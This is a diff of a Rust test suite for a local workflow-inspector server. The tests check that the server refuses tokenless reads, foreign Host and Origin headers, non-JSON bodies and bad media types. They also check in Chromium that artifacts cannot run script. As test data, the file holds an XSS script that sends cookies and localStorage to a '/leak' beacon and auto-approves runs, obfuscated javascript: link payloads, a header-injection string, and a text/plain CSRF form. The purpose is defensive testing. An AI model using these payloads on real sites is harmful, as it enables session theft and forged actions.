@@ -4,7 +4,12 @@
 //! approval node, refused answers that change nothing, answered, its own
 //! event stream to its end; checkpoints, states, diffs, artifacts of a
 //! research run that `host run` wrote into the same database; cancels; bad
-//! input of each kind), the token rules, and the pages.
+//! input of each kind), the token rules (reads as writes), other names and
+//! other sites refused, bodies that are not sent as JSON refused, artifact
+//! media types checked by `host check`, and the pages in a real Chromium:
+//! the inspector at work, a run's HTML, SVG and Markdown that cannot
+//! script it, another site's page that cannot answer an approval, and
+//! signing in with a token that no page keeps.
 
 use std::io::{BufRead, BufReader};
 use std::path::Path;
@@ -75,6 +80,42 @@ impl Server {
     /// GET, the status and the body as JSON.
     fn get(&self, path: &str) -> (u16, Value) {
         let response = self.client.get(self.url(path)).send().unwrap();
+        let status = response.status().as_u16();
+        let text = response.text().unwrap();
+        (
+            status,
+            serde_json::from_str(&text).unwrap_or(Value::String(text)),
+        )
+    }
+
+    /// GET with an `Authorization` value.
+    fn get_with(&self, path: &str, authorization: &str) -> (u16, Value) {
+        let response = self
+            .client
+            .get(self.url(path))
+            .header("authorization", authorization)
+            .send()
+            .unwrap();
+        let status = response.status().as_u16();
+        let text = response.text().unwrap();
+        (
+            status,
+            serde_json::from_str(&text).unwrap_or(Value::String(text)),
+        )
+    }
+
+    /// A request with the headers given (`host`, `origin`, `content-type`
+    /// …), the status and the body as JSON (or text).
+    fn send(&self, method: &str, path: &str, headers: &[(&str, &str)], body: &str) -> (u16, Value) {
+        let method = reqwest::Method::from_bytes(method.as_bytes()).unwrap();
+        let mut request = self
+            .client
+            .request(method, self.url(path))
+            .body(body.to_string());
+        for (name, value) in headers {
+            request = request.header(*name, *value);
+        }
+        let response = request.send().unwrap();
         let status = response.status().as_u16();
         let text = response.text().unwrap();
         (
@@ -466,7 +507,7 @@ fn a_non_loopback_address_needs_a_token() {
 }
 
 #[test]
-fn with_a_token_every_change_needs_it() {
+fn with_a_token_every_request_needs_it() {
     let dir = tempfile::tempdir().unwrap();
     let token_file = dir.path().join("token");
     std::fs::write(&token_file, "s3cret-token\n").unwrap();
@@ -488,21 +529,374 @@ fn with_a_token_every_change_needs_it() {
     let reply = server.post_raw("/api/runs", start.clone(), Some("guess"));
     assert_eq!(reply.0, 401, "{reply:?}");
     assert!(!error_of(&reply).contains("s3cret"), "{reply:?}");
-    // Nothing was written; reading needs no token.
-    assert_eq!(server.get("/api/runs").1["runs"], json!([]));
+    // Reading needs it too: states hold fetched pages, kv values and model
+    // output.
+    for path in [
+        "/api/runs",
+        "/api/scenarios",
+        "/api/events",
+        "/api/openapi.json",
+    ] {
+        let reply = server.get(path);
+        assert_eq!(reply.0, 401, "GET {path}: {reply:?}");
+    }
+    // The scheme in any case.
+    for scheme in ["Bearer", "bearer", "BEARER"] {
+        let reply = server.get_with("/api/runs", &format!("{scheme} s3cret-token"));
+        assert_eq!(reply.0, 200, "{scheme}: {reply:?}");
+        // Nothing was written.
+        assert_eq!(reply.1["runs"], json!([]));
+    }
     let reply = server.post_raw("/api/runs", start, Some("s3cret-token"));
     assert_eq!(reply.0, 201, "{reply:?}");
     let id = reply.1["id"].as_str().unwrap().to_string();
     let reply = server.post_raw(&format!("/api/runs/{id}/cancel"), b"{}".to_vec(), None);
     assert_eq!(reply.0, 401);
+    for path in [
+        format!("/api/runs/{id}"),
+        format!("/api/runs/{id}/checkpoints"),
+        format!("/api/runs/{id}/events"),
+        format!("/runs/{id}"),
+    ] {
+        let reply = server.get(&path);
+        assert_eq!(reply.0, 401, "GET {path}: {reply:?}");
+        assert!(
+            !reply.1.to_string().contains(&id) || path.starts_with("/runs/"),
+            "{reply:?}"
+        );
+    }
+    // The run page without it is the sign-in page, holding nothing of the run.
+    let page = server.get(&format!("/runs/{id}")).1;
+    let page = page.as_str().unwrap();
+    assert!(page.contains("data-page=\"signin\""), "{page}");
+    assert!(!page.contains("approval"), "{page}");
+    assert_eq!(
+        server
+            .get_with(&format!("/api/runs/{id}"), "bearer s3cret-token")
+            .0,
+        200
+    );
+}
+
+/// The run state as the store holds it, read by `host runs show`.
+fn stored_status(dir: &Path, db: Option<&str>, id: &str) -> String {
+    let mut args = vec!["runs", "show", id, "--json"];
+    if let Some(db) = db {
+        args.extend(["--database", db]);
+    }
+    let shown = out_json(&host_command(dir, &args, None).output().unwrap());
+    shown["status"].as_str().unwrap().to_string()
+}
+
+/// Starts a run of `approval` through the API and waits until it waits.
+fn waiting_run(server: &Server) -> String {
+    let (status, started) = server.post("/api/runs", &json!({"scenario": "approval"}));
+    assert_eq!(status, 201, "{started}");
+    let id = started["id"].as_str().unwrap().to_string();
+    poll(server, &format!("/api/runs/{id}"), |d| {
+        d["run"]["status"] == "waiting"
+    });
+    id
+}
+
+#[test]
+fn other_names_other_sites_and_bodies_not_sent_as_json_are_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let approval = approval();
+    let server = Server::start(
+        dir.path(),
+        None,
+        &[
+            "--scenarios",
+            &approval,
+            "--allowed-host",
+            "inspector.example.com",
+        ],
+    );
+    let id = waiting_run(&server);
+    let port = server.base.rsplit(':').next().unwrap().to_string();
+    let answer_path = format!("/api/runs/{id}/answer");
+    let answer = json!({"answer": {"approved": true}, "by": "intruder"}).to_string();
+    let json_type = ("content-type", "application/json");
+
+    // DNS rebinding: a page under its own name that resolves to 127.0.0.1.
+    for host in [
+        "evil.example",
+        &format!("evil.example:{port}"),
+        "localhost:1",
+    ] {
+        for (method, path) in [
+            ("GET", "/api/runs"),
+            ("GET", "/"),
+            ("GET", &format!("/runs/{id}") as &str),
+            ("GET", &format!("/api/runs/{id}/checkpoints/1/state")),
+            ("POST", &answer_path),
+        ] {
+            let reply = server.send(method, path, &[("host", host), json_type], &answer);
+            assert_eq!(reply.0, 403, "{method} {path} Host {host}: {reply:?}");
+            assert!(reply.1.to_string().contains("--allowed-host"), "{reply:?}");
+            assert!(!reply.1.to_string().contains("\"prepare\""), "{reply:?}");
+        }
+    }
+    // Another site's page, or an opaque one.
+    for origin in [
+        "http://evil.example",
+        "null",
+        &format!("http://127.0.0.1:{}", free_port()),
+        &format!("http://localhost:{port}.evil.example"),
+    ] {
+        let reply = server.send(
+            "POST",
+            &answer_path,
+            &[("origin", origin), json_type],
+            &answer,
+        );
+        assert_eq!(reply.0, 403, "Origin {origin}: {reply:?}");
+        assert!(error_of(&reply).contains("Origin"), "{reply:?}");
+        let reply = server.send("GET", "/api/runs", &[("origin", origin)], "");
+        assert_eq!(reply.0, 403, "GET with Origin {origin}: {reply:?}");
+    }
+    // A body that is not sent as JSON is not read as JSON.
+    for content_type in [
+        Some("text/plain"),
+        Some("text/plain;charset=UTF-8"),
+        Some("application/x-www-form-urlencoded"),
+        Some("multipart/form-data; boundary=b"),
+        None,
+    ] {
+        let headers: Vec<(&str, &str)> = content_type
+            .map(|c| ("content-type", c))
+            .into_iter()
+            .collect();
+        let reply = server.send("POST", &answer_path, &headers, &answer);
+        assert_eq!(reply.0, 415, "{content_type:?}: {reply:?}");
+        assert!(error_of(&reply).contains("application/json"), "{reply:?}");
+    }
+    // None of that answered it: the store still has it waiting.
+    assert_eq!(stored_status(dir.path(), None, &id), "waiting");
+
+    // Its own names, and the one given, are answered; its own pages'
+    // Origin too.
+    for host in [
+        format!("127.0.0.1:{port}"),
+        format!("localhost:{port}"),
+        "inspector.example.com".to_string(),
+    ] {
+        let reply = server.send("GET", "/api/runs", &[("host", &host)], "");
+        assert_eq!(reply.0, 200, "Host {host}: {reply:?}");
+    }
+    let own = format!("http://127.0.0.1:{port}");
+    let reply = server.send(
+        "POST",
+        &answer_path,
+        &[("origin", &own), json_type],
+        &answer,
+    );
+    assert_eq!(reply.0, 200, "{reply:?}");
+
+    // A name that is not one is refused at start.
+    let out = host_command(
+        dir.path(),
+        &[
+            "serve",
+            "--addr",
+            "127.0.0.1:0",
+            "--allowed-host",
+            "http://x/",
+        ],
+        None,
+    )
+    .output()
+    .unwrap();
+    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("--allowed-host `http://x/`"),
+        "{}",
+        stderr(&out)
+    );
+}
+
+/// A scenario whose run writes the artifacts `input` gives: an HTML page, an
+/// SVG picture and a Markdown report.
+fn hostile_scenario(dir: &Path) -> String {
+    let echo = repo_root().join("skills/dist/echo.wasm");
+    let file = dir.join("hostile.toml");
+    std::fs::write(
+        &file,
+        format!(
+            r#"[scenario]
+name = "hostile"
+version = "0.1.0"
+
+[input]
+html = {{ type = "string" }}
+svg = {{ type = "string" }}
+markdown = {{ type = "string" }}
+
+[skills.echo]
+component = "{}"
+
+[[node]]
+id = "write"
+skill = "echo"
+input = {{ message = "'x'", repeat = "1" }}
+artifacts = [
+  {{ name = "page.html", from = "input.html", media_type = "text/html" }},
+  {{ name = "picture.svg", from = "input.svg", media_type = "image/svg+xml" }},
+  {{ name = "report.md", from = "input.markdown", media_type = "text/markdown" }},
+]
+
+[[node]]
+id = "done"
+kind = "end"
+
+[[edge]]
+from = "write"
+to = "done"
+"#,
+            echo.display()
+        ),
+    )
+    .unwrap();
+    file.display().to_string()
+}
+
+#[test]
+fn host_check_refuses_media_types_that_are_not_and_serve_never_echoes_one() {
+    let dir = tempfile::tempdir().unwrap();
+    let good = hostile_scenario(dir.path());
+    let text = std::fs::read_to_string(&good).unwrap();
+    for bad in [
+        r#"text/markdown"><script>alert(1)</script>"#,
+        r#"text/html
+X-Injected: yes"#,
+        "",
+        "html",
+        "text/html; charset",
+        "text/html x",
+    ] {
+        let file = dir.path().join("bad.toml");
+        std::fs::write(
+            &file,
+            // A TOML basic string: JSON's escapes are TOML's.
+            text.replace(
+                r#"media_type = "text/html""#,
+                &format!("media_type = {}", Value::String(bad.into())),
+            ),
+        )
+        .unwrap();
+        let out = host_command(dir.path(), &["check", file.to_str().unwrap()], None)
+            .output()
+            .unwrap();
+        assert_eq!(out.status.code(), Some(2), "{bad}: {}", stderr(&out));
+        let said = stderr(&out);
+        assert!(
+            said.contains("node `write`")
+                && said.contains("artifact `page.html`: media_type is not a media type"),
+            "{bad}: {said}"
+        );
+        assert!(!said.contains("\r\n"), "{bad}: {said}");
+    }
+    let out = host_command(dir.path(), &["check", &good], None)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", stderr(&out));
+}
+/// A web site of another origin (another port of 127.0.0.1): it serves
+/// the pages it is given by path, answers anything else 204, and records
+/// the request target of every request it reads (a script's beacon to
+/// `/leak?…` shows there).
+struct OtherSite {
+    addr: std::net::SocketAddr,
+    pages: std::sync::Arc<std::sync::Mutex<std::collections::HashMap<String, String>>>,
+    seen: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
+    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
+}
+
+impl OtherSite {
+    fn start() -> OtherSite {
+        use std::io::{Read, Write};
+        use std::sync::atomic::Ordering;
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        listener.set_nonblocking(true).unwrap();
+        let site = OtherSite {
+            addr: listener.local_addr().unwrap(),
+            pages: Default::default(),
+            seen: Default::default(),
+            stop: Default::default(),
+        };
+        let (pages, seen, stop) = (site.pages.clone(), site.seen.clone(), site.stop.clone());
+        std::thread::spawn(move || {
+            while !stop.load(Ordering::Relaxed) {
+                let mut stream = match listener.accept() {
+                    Ok((stream, _)) => stream,
+                    Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
+                        std::thread::sleep(Duration::from_millis(5));
+                        continue;
+                    }
+                    Err(_) => return,
+                };
+                stream.set_nonblocking(false).unwrap();
+                stream
+                    .set_read_timeout(Some(Duration::from_secs(5)))
+                    .unwrap();
+                let mut head = Vec::new();
+                let mut byte = [0u8; 1];
+                while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).unwrap_or(0) == 1 {
+                    head.push(byte[0]);
+                }
+                let head = String::from_utf8_lossy(&head).into_owned();
+                let target = head.split(' ').nth(1).unwrap_or("").to_string();
+                seen.lock().unwrap().push(target.clone());
+                let page = pages.lock().unwrap().get(&target).cloned();
+                let response = match page {
+                    Some(html) => format!(
+                        "HTTP/1.1 200 OK\r\ncontent-type: text/html; charset=utf-8\r\n\
+                         content-length: {}\r\nconnection: close\r\n\r\n{html}",
+                        html.len()
+                    ),
+                    None => "HTTP/1.1 204 No Content\r\nconnection: close\r\n\r\n".into(),
+                };
+                let _ = stream.write_all(response.as_bytes());
+            }
+        });
+        site
+    }
+
+    fn url(&self, path: &str) -> String {
+        format!("http://{}{path}", self.addr)
+    }
+
+    fn page(&self, path: &str, html: String) {
+        self.pages.lock().unwrap().insert(path.into(), html);
+    }
+
+    /// The request targets read that start with `prefix`.
+    fn seen(&self, prefix: &str) -> Vec<String> {
+        let seen = self.seen.lock().unwrap();
+        seen.iter()
+            .filter(|t| t.starts_with(prefix))
+            .cloned()
+            .collect()
+    }
+}
+
+impl Drop for OtherSite {
+    fn drop(&mut self) {
+        self.stop.store(true, std::sync::atomic::Ordering::Relaxed);
+    }
 }
 
 /// The run inspector in a real Chromium, driven through chromedriver's
 /// WebDriver protocol (plain HTTP/JSON): the research run's page shows
 /// every node it ran as completed and the report rendered; a waiting run
-/// is answered from its page and completes. Screenshots go to
-/// `target/serve-screenshots/`. Without Chromium the test says so and
-/// passes, except under `CI=true`, where it fails.
+/// is answered from its page and completes; a run's HTML and SVG
+/// artifacts, opened from its page, run no script (neither reading what
+/// the page holds nor calling the API), and its report's `javascript:`
+/// links are no links; another site's page cannot answer an approval;
+/// with a token, the pages sign in and keep it nowhere a script reads.
+/// Screenshots go to `target/serve-screenshots/`. Without Chromium the
+/// test says so and passes, except under `CI=true`, where it fails.
 mod browser {
     use super::*;
     use base64::Engine as _;
@@ -759,5 +1153,269 @@ mod browser {
         assert_eq!(detail["waits"][0]["answer"]["approved"], true);
         assert_eq!(detail["waits"][0]["answered_by"], "api");
         driver.screenshot("approval-answered");
+    }
+
+    /// What a run's HTML page or SVG picture would do on the inspector's
+    /// origin: mark that it ran, read what the page keeps (its storage and
+    /// cookies) and send it to `site`, and answer every waiting run.
+    fn hostile_script(site: &OtherSite) -> String {
+        format!(
+            "document.title = 'ran'; \
+             const leak = (what) => {{ new Image().src = '{leak}?' + encodeURIComponent(what); \
+               fetch('{leak}?' + encodeURIComponent(what), {{mode: 'no-cors'}}).catch(() => {{}}); }}; \
+             let kept = ''; \
+             try {{ kept = JSON.stringify(Object.assign({{}}, localStorage)); }} catch (e) {{ kept = 'no storage'; }} \
+             leak('ran cookie=' + document.cookie + ' storage=' + kept); \
+             fetch('/api/runs?status=waiting').then((r) => r.json()).then((page) => {{ \
+               leak('runs=' + JSON.stringify(page)); \
+               for (const run of page.runs) fetch('/api/runs/' + run.id + '/answer', {{ \
+                 method: 'POST', headers: {{'Content-Type': 'application/json'}}, \
+                 body: JSON.stringify({{answer: {{approved: true}}, by: 'artifact'}}) }}); \
+             }}).catch((e) => leak('failed ' + e));",
+            leak = site.url("/leak")
+        )
+    }
+
+    /// Runs the hostile scenario on the server's database: an HTML page
+    /// and an SVG picture with `script`, and a report whose links try
+    /// every way to be `javascript:`.
+    fn hostile_run(dir: &Path, server: &Server, script: &str) -> String {
+        let file = hostile_scenario(dir);
+        let input = json!({
+            "html": format!("<!doctype html><title>report</title><p>an HTML report</p>\
+                             <script>{script}</script><img src=x onerror=\"{script}\">"),
+            "svg": format!("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{script}\" \
+                            width=\"100\" height=\"100\"><script>{script}</script>\
+                            <circle cx=\"50\" cy=\"50\" r=\"40\"/></svg>"),
+            "markdown": "# Hostile report\n\n\
+                 [click me](javascript:document.title='ran') \
+                 [tab](jav&#x09;ascript:document.title='ran') \
+                 [entity](jav&#x61;script:document.title='ran') \
+                 [spaced](<  javascript:document.title='ran'>) \
+                 ![image](javascript:document.title='ran') \
+                 <javascript:document.title='ran'> \
+                 [data](data:text/html,ran) \
+                 [vb](vbscript:msgbox) \
+                 [web](https://example.com/ok) [mail](mailto:a@example.com) [relative](other.md)\n",
+        });
+        let out = host_command(dir, &["run", &file, "--input", &input.to_string()], None)
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "{}", stderr(&out));
+        let (_, runs) = server.get_with("/api/runs?scenario=hostile", "Bearer s3cret-token");
+        runs["runs"][0]["id"].as_str().unwrap().to_string()
+    }
+
+    /// Opens the run page, checks its report, and opens each artifact with
+    /// script from its link: none may run, leak or answer `waiting`.
+    fn artifacts_run_no_script(
+        driver: &Driver,
+        server: &Server,
+        site: &OtherSite,
+        dir: &Path,
+        run: &str,
+        waiting: &str,
+    ) {
+        driver.open(&server.url(&format!("/runs/{run}")));
+        driver.until(
+            "the run loaded",
+            "return document.body.dataset.loaded === 'completed'",
+        );
+        // The report: only the web, mail and relative links are links.
+        let links = driver.script(
+            "const r = document.querySelector('section[data-artifact=\"report.md\"] .report'); \
+             return [[...r.querySelectorAll('[href],[src]')].map((e) => e.getAttribute('href') || e.getAttribute('src')), \
+                     r.querySelectorAll('.link-removed').length, r.innerText]",
+        );
+        assert_eq!(
+            links[0],
+            json!(["https://example.com/ok", "mailto:a@example.com", "other.md"]),
+            "{links}"
+        );
+        assert_eq!(links[1], 8, "{links}");
+        assert!(links[2].as_str().unwrap().contains("click me"), "{links}");
+        driver.click("section[data-artifact=\"report.md\"] .link-removed");
+        std::thread::sleep(Duration::from_millis(300));
+        assert_ne!(driver.script("return document.title"), "ran");
+        driver.screenshot("hostile-run");
+
+        for artifact in ["page.html", "picture.svg"] {
+            driver.open(&server.url(&format!("/runs/{run}")));
+            driver.until(
+                "the run loaded",
+                "return document.body.dataset.loaded === 'completed'",
+            );
+            driver.click(&format!("section[data-artifact=\"{artifact}\"] h3 a"));
+            driver.until(
+                &format!("{artifact} opened"),
+                &format!("return location.pathname.endsWith('/{artifact}')"),
+            );
+            // Long enough for a script, its requests and its beacons.
+            std::thread::sleep(Duration::from_secs(2));
+            assert_ne!(driver.script("return document.title"), "ran", "{artifact}");
+            driver.screenshot(&format!("hostile-{}", artifact.replace('.', "-")));
+            assert_eq!(site.seen("/leak"), Vec::<String>::new(), "{artifact} ran");
+            assert_eq!(stored_status(dir, None, waiting), "waiting", "{artifact}");
+        }
+    }
+
+    #[test]
+    fn a_run_cannot_script_the_inspector_nor_another_site_answer_an_approval() {
+        let Some(driver) = Driver::start() else {
+            return;
+        };
+        let dir = tempfile::tempdir().unwrap();
+        let approval = approval();
+        let server = Server::start(dir.path(), None, &["--scenarios", &approval]);
+        let site = OtherSite::start();
+        let waiting = waiting_run(&server);
+        let run = hostile_run(dir.path(), &server, &hostile_script(&site));
+        artifacts_run_no_script(&driver, &server, &site, dir.path(), &run, &waiting);
+
+        // Another site's page: a no-cors text/plain POST, a CORS JSON POST,
+        // and a form posting text/plain that spells JSON.
+        let target = server.url(&format!("/api/runs/{waiting}/answer"));
+        let body = json!({"answer": {"approved": true}, "by": "elsewhere"}).to_string();
+        site.page(
+            "/fetch",
+            format!(
+                "<!doctype html><title>elsewhere</title><script>\
+                 const body = {body:?}; \
+                 Promise.allSettled([\
+                   fetch('{target}', {{method: 'POST', mode: 'no-cors', headers: {{'Content-Type': 'text/plain'}}, body}}), \
+                   fetch('{target}', {{method: 'POST', headers: {{'Content-Type': 'application/json'}}, body}}), \
+                 ]).then((r) => {{ document.title = 'sent ' + r.map((x) => x.status).join(' '); }});\
+                 </script>"
+            ),
+        );
+        site.page(
+            "/form",
+            format!(
+                "<!doctype html><title>elsewhere</title>\
+                 <form method=post enctype=text/plain action='{target}'>\
+                 <input name='{{\"answer\": {{\"approved\": true}}, \"by\": \"form\", \"x\": \"' value='\"}}'>\
+                 </form><script>document.forms[0].submit();</script>"
+            ),
+        );
+        driver.open(&site.url("/fetch"));
+        driver.until(
+            "the other site's requests sent",
+            "return document.title.startsWith('sent')",
+        );
+        std::thread::sleep(Duration::from_millis(500));
+        assert_eq!(stored_status(dir.path(), None, &waiting), "waiting");
+        driver.open(&site.url("/form"));
+        driver.until(
+            "the form posted",
+            &format!("return location.href.startsWith('{}')", server.url("/")),
+        );
+        std::thread::sleep(Duration::from_millis(500));
+        driver.screenshot("form-from-elsewhere");
+        assert_eq!(stored_status(dir.path(), None, &waiting), "waiting");
+        let (_, detail) = server.get(&format!("/api/runs/{waiting}"));
+        assert_eq!(detail["waits"][0]["answer"], Value::Null, "{detail}");
+    }
+
+    #[test]
+    fn with_a_token_the_pages_sign_in_and_keep_it_where_no_script_reads() {
+        let Some(driver) = Driver::start() else {
+            return;
+        };
+        let dir = tempfile::tempdir().unwrap();
+        let approval = approval();
+        let server = Server::start(
+            dir.path(),
+            None,
+            &["--scenarios", &approval, "--token", "s3cret-token"],
+        );
+        let site = OtherSite::start();
+        let start = json!({"scenario": "approval"}).to_string().into_bytes();
+        let mut ids = Vec::new();
+        for _ in 0..2 {
+            let reply = server.post_raw("/api/runs", start.clone(), Some("s3cret-token"));
+            assert_eq!(reply.0, 201, "{reply:?}");
+            ids.push(reply.1["id"].as_str().unwrap().to_string());
+        }
+        for id in &ids {
+            let deadline = Instant::now() + Duration::from_secs(60);
+            while stored_status(dir.path(), None, id) != "waiting" {
+                assert!(Instant::now() < deadline, "run {id} never waited");
+                std::thread::sleep(Duration::from_millis(200));
+            }
+        }
+
+        // Not signed in: the list shows no run and asks for the token; a
+        // run's page is the sign-in page.
+        driver.open(&server.url("/"));
+        driver.until(
+            "the sign-in form",
+            "return !document.querySelector('#signin').hidden",
+        );
+        assert_eq!(
+            driver.script("return document.querySelectorAll('#runs tbody tr').length"),
+            0
+        );
+        driver.open(&server.url(&format!("/runs/{}", ids[0])));
+        driver.until(
+            "the sign-in page",
+            "return document.body.dataset.page === 'signin' && !document.querySelector('#signin').hidden",
+        );
+        // A wrong token is refused; the right one signs in and the page
+        // reloads as the run's.
+        driver.script("document.querySelector('#token').value = 'guess'");
+        driver.click("#signin button");
+        driver.until(
+            "the refusal",
+            "return document.querySelector('#signin-result').textContent.includes('wrong')",
+        );
+        driver.script("document.querySelector('#token').value = 's3cret-token'");
+        driver.click("#signin button");
+        driver.until(
+            "the run page, signed in",
+            "return document.body.dataset.page === 'run' && document.body.dataset.loaded === 'waiting'",
+        );
+        driver.screenshot("signed-in-run");
+        // The token is nowhere a script reads: no storage, no readable cookie.
+        let kept = driver.script(
+            "return [Object.keys(localStorage).length, Object.keys(sessionStorage).length, document.cookie]",
+        );
+        assert_eq!(kept, json!([0, 0, ""]), "{kept}");
+        // The pages work: answered from the page, the run completes.
+        driver.until(
+            "the answer form",
+            "return !document.querySelector('#waiting').hidden && !!document.querySelector('#answer button')",
+        );
+        driver.click("#answer button");
+        driver.until(
+            "the answered run completed",
+            "return document.body.dataset.loaded === 'completed'",
+        );
+        // The runs list too.
+        driver.open(&server.url("/"));
+        driver.until(
+            "the runs in the list",
+            &format!(
+                "return !!document.querySelector('tr[data-run=\"{}\"]')",
+                ids[1]
+            ),
+        );
+        assert!(driver.script("return document.querySelector('#signin').hidden") == json!(true));
+
+        // A run's artifacts, opened by the signed-in browser, still run no
+        // script and reach neither the token nor the API.
+        let run = hostile_run(dir.path(), &server, &hostile_script(&site));
+        artifacts_run_no_script(&driver, &server, &site, dir.path(), &run, &ids[1]);
+
+        // Signing out: the list asks for the token again.
+        driver.open(&server.url("/"));
+        driver.until(
+            "signed in",
+            "return !document.querySelector('#signout').hidden",
+        );
+        driver.click("#signout");
+        driver.until(
+            "the sign-in form again",
+            "return !document.querySelector('#signin').hidden",
+        );
     }
 }
